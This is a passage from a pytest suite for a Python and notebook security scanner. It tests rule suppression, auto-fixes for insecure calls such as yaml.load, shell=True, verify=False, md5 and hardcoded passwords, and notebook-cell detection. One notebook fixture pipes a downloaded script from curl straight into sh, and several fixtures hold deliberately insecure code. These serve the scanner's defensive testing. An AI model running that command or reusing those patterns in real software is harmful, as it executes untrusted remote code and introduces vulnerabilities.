        "subprocess.run(  # grace: ignore[GRC-PY-045] fixed command, reviewed\n"
        "    cmd,\n"
        "    shell=True,\n"
        ")\n"
    )
    assert "GRC-PY-045" not in ids(registry, source)
    source = "import yaml\ndata = yaml.load(\n    f,\n)  # grace: ignore[GRC-PY-019] trusted file\n"
    assert "GRC-PY-019" not in ids(registry, source)


def test_suppression_names_only_its_rules(registry: RuleRegistry) -> None:
    source = "import os\nos.system('make')  # grace: ignore[GRC-PY-048] reviewed\n"
    assert ids(registry, source) >= {"GRC-PY-050"}


# ----------------------------------------------------------------- fixes


def apply(source: str, fix: Fix) -> str:
    lines = source.split("\n")
    lines[fix.start_line - 1 : fix.end_line] = fix.replacement.split("\n")
    return "\n".join(lines)


FIX_CASES: list[tuple[str, str, str]] = [
    ("GRC-PY-019", "import yaml\ndata = yaml.load(f)  # keep\n", "yaml.safe_load(f)  # keep"),
    ("GRC-PY-019", "import yaml\ndata = yaml.load(f, Loader=yaml.Loader)\n", "yaml.safe_load(f)"),
    (
        "GRC-PY-019",
        "import yaml\ndocs = yaml.load_all(\n    f,\n    yaml.FullLoader,\n)\n",
        "safe_load_all",
    ),
    (
        "GRC-PY-045",
        "import subprocess\nout = subprocess.run('ls -l \"my dir\"', shell=True, check=True)\n",
        "subprocess.run(['ls', '-l', 'my dir'], check=True)",
    ),
    (
        "GRC-PY-045",
        "import subprocess\nsubprocess.call(\n    'git status',\n    shell=True,\n)\n",
        "['git', 'status']",
    ),
    (
        "GRC-PY-041",
        "import requests\nr = requests.get(url, verify=False, timeout=3)\n",
        "requests.get(url, timeout=3)",
    ),
    ("GRC-PY-041", "import httpx\nc = httpx.Client(verify=False)\n", "httpx.Client()"),
    ("GRC-PY-041", "session.verify = False\n", "session.verify = True"),
    ("GRC-PY-021", "import hashlib\nh = hashlib.md5(data).hexdigest()\n", "hashlib.sha256(data)"),
    (
        "GRC-PY-021",
        "import hashlib\nh = hashlib.new('sha1', data)\n",
        'hashlib.new("sha256", data)',
    ),
    (
        "GRC-PY-025",
        "import tempfile\npath = tempfile.mktemp(suffix='.csv')\n",
        "path_fd, path = tempfile.mkstemp",
    ),
    ("GRC-PY-025", "import tempfile\nuse(tempfile.mktemp())\n", "use(tempfile.mkstemp()[1])"),
    ("GRC-PY-013", "import requests\nr = requests.get(url)\n", "requests.get(url, timeout=30)"),
    (
        "GRC-PY-013",
        "import requests\nr = requests.post(\n    url,\n    json=body,\n)\n",
        "json=body, timeout=30,",
    ),
    (
        "GRC-PY-057",
        "import jinja2\nenv = jinja2.Environment(autoescape=False)\n",
        "autoescape=True",
    ),
    (
        "GRC-PY-057",
        "import jinja2\nenv = jinja2.Environment()\n",
        "jinja2.Environment(autoescape=True)",
    ),
    (
        "GRC-PY-037",
        "import ssl\nctx = ssl._create_unverified_context()  # x\n",
        "ctx = ssl.create_default_context()  # x",
    ),
    (
        "GRC-PY-018",
        "import torch\nm = torch.load('w.pt')\n",
        "torch.load('w.pt', weights_only=True)",
    ),
    ("GRC-PY-018", "import torch\nm = torch.load(p, weights_only=False)\n", "weights_only=True"),
    (
        "GRC-PY-007",
        "db_password = 'hunter2'  # prod\n",
        'db_password = os.environ["DB_PASSWORD"]  # prod',
    ),
    ("GRC-PY-007", "self.apiKey = 'abc123'\n", 'os.environ["API_KEY"]'),
]


@pytest.mark.parametrize(("rule_id", "source", "expected"), FIX_CASES)
def test_fix_applies_cleanly(
    registry: RuleRegistry, rule_id: str, source: str, expected: str
) -> None:
    findings = [f for f in scan(registry, source) if f.rule_id == rule_id]
    assert findings, source
    fix = findings[0].fix
    assert fix is not None
    fixed = apply(source, fix)
    assert expected in fixed, fixed
    ast.parse(fixed)
    assert rule_id not in ids(registry, fixed), fixed


def test_fix_keeps_non_ascii_lines(registry: RuleRegistry) -> None:
    source = "import yaml\nd = {'é': yaml.load(f)}  # ünïcode\n"
    (finding,) = [f for f in scan(registry, source) if f.rule_id == "GRC-PY-019"]
    assert finding.fix is not None
    assert apply(source, finding.fix) == "import yaml\nd = {'é': yaml.safe_load(f)}  # ünïcode\n"


def test_pickle_has_hint_but_no_patch(registry: RuleRegistry) -> None:
    (finding,) = [
        f for f in scan(registry, "import pickle\npickle.load(f)") if f.rule_id == "GRC-PY-016"
    ]
    assert finding.fix is None
    assert "safe formats" in finding.rule.fix


def test_shell_fix_skipped_for_shell_syntax(registry: RuleRegistry) -> None:
    source = "import subprocess\nsubprocess.run('ls | wc -l', shell=True)\n"
    (finding,) = [f for f in scan(registry, source) if f.rule_id == "GRC-PY-045"]
    assert finding.fix is None


def test_fix_capable_rules() -> None:
    assert len({rule_id for rule_id, _, _ in FIX_CASES}) >= 8


# ----------------------------------------------------------------- notebook cells


def test_transformed_cells_look_as_expected() -> None:
    assert cell("%env API_KEY=x\n") == "get_ipython().run_line_magic('env', 'API_KEY=x')\n"
    assert cell("!ls\n") == "get_ipython().system('ls')\n"


def test_notebook_cell_mixed(registry: RuleRegistry) -> None:
    source = cell(
        """
        %pip install pandas==2.2.2 --extra-index-url https://mirror.example/simple
        !curl -s https://example.com/setup.sh | sh
        %env HF_TOKEN=hf_abcdef
        import pandas as pd
        df = pd.read_pickle(path)
        """
    )
    found = ids(registry, source)
    assert {"GRC-NB-001", "GRC-NB-003", "GRC-NB-004", "GRC-PY-016"} <= found
    assert "GRC-NB-002" not in found
    critical = [f for f in scan(registry, source) if f.effective_severity == Severity.CRITICAL]
    assert {f.rule_id for f in critical} == {"GRC-NB-001", "GRC-NB-004"}


def test_clean_notebook_cell(registry: RuleRegistry) -> None:
    source = cell(
        """
        %pip install numpy==1.26.4
        %matplotlib inline
        import numpy as np
        rng = np.random.default_rng(0)
        x = rng.normal(size=100)
        print(x.mean())
        """
    )
    assert ids(registry, source) == set()


def test_findings_carry_metadata(registry: RuleRegistry) -> None:
    (finding,) = [
        f for f in scan(registry, "import yaml\nyaml.load(f)") if f.rule_id == "GRC-PY-019"
    ]
    assert finding.rule.bandit == "B506"
    assert finding.rule.cwe == 502
    assert finding.line == 2
    assert finding.snippet == "yaml.load(f)"


def test_bidi_position(registry: RuleRegistry) -> None:
    source = 'a = 1\nb = "x\u202ey"\n'
    (finding,) = [f for f in scan(registry, source) if f.rule_id == "GRC-PY-056"]
    assert finding.line == 2
